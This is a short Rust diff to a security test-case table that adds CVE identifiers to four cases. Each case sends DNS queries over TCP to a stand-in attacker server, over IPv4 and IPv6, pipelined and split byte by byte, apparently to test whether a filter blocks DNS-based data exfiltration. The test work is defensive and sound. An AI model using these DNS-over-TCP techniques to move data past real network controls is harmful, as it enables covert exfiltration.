@@ -59,19 +59,19 @@ pub(super) const CASES: &[Case] = &[
     ),
     Case::new(
         "dns-tcp-v4",
-        &["G11"],
+        &["CVE-2026-32946", "G11"],
         "DNS over TCP to the attacker's server.",
         |targets| ask_tcp(at(EVIL_V4, 53), &[&framed(targets)]),
     ),
     Case::new(
         "dns-tcp-v6",
-        &["G11"],
+        &["CVE-2026-32946", "G11"],
         "DNS over TCP to the attacker's server, IPv6.",
         |targets| ask_tcp(at(EVIL_V6, 53), &[&framed(targets)]),
     ),
     Case::new(
         "dns-tcp-pipelined",
-        &["G11"],
+        &["CVE-2025-47775", "G11"],
         "Several DNS questions in one TCP segment.",
         |targets| {
             let one = framed(targets);
@@ -80,7 +80,7 @@ pub(super) const CASES: &[Case] = &[
     ),
     Case::new(
         "dns-tcp-byte-by-byte",
-        &["G11"],
+        &["CVE-2025-47775", "G11"],
         "A DNS question over TCP, one byte in each segment.",
         |targets| {
             let question = framed(targets);
